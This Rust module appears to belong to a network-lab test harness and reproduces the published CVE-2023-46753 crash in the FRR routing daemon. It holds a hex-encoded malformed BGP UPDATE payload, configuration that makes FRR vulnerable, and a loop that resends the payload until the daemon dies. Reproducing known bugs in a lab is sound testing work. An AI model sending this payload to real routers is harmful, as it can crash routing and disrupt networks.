//! Published bugs of the daemons, as scenarios need them: what triggers them, and the configuration they need.

/// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
pub mod cve_2023_46753 {
    use crate::daemons::Instance;
    use crate::lab::{Lab, Netns, Site, wait_for};
    use crate::operate;
    use crate::replayer::Replayer;
    use anyhow::Result;
    use std::net::IpAddr;
    use std::time::Duration;

    /// How often the UPDATE is sent, each time over a new session, and how long each may take.
    const ATTEMPTS: u32 = 3;
    const EACH: Duration = Duration::from_secs(10);

    /// UPDATE: four unknown attributes, none of the mandatory ones, and 198.51.100.0/24.
    pub const UPDATE: &str =
        "ffffffffffffffffffffffffffffffff002f0200000014ff1f00100004014646464646000446464646464618c63364";

    /// Gives a running FRR a route-map that prepends, for what this neighbour says of 198.51.100.0/24 alone.
    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
        let commands = format!(
            "configure terminal\nbgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
             route-map IN permit 10\nmatch ip address prefix-list PUBLISHED\nset as-path prepend 65000\nroute-map IN permit 20\n\
             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in"
        );
        operate::control(frr, ns, &commands).map(|_| ())
    }

    /// Sends what `raw` says (octets in hexadecimal, or a file of them) over new sessions until the daemon is dead; returns the last sender, and
    /// whether it died. FRR misses the check that would save it only where its neighbour offers graceful restart, as virtd does on every leg.
    pub fn send_until_dead(
        lab: &Lab,
        site: &Site,
        raw: &str,
        mut dead: impl FnMut() -> bool,
    ) -> Result<(Replayer, bool)> {
        let mut attempt = 1;
        loop {
            let mut sender = Replayer::dial(lab, site, false, &["--graceful-restart", "--raw", raw])?;
            let died = wait_for("the daemon to die", EACH, &mut dead).is_ok();
            if died || attempt == ATTEMPTS {
                return Ok((sender, died));
            }
            sender.finish()?;
            attempt += 1;
        }
    }
}
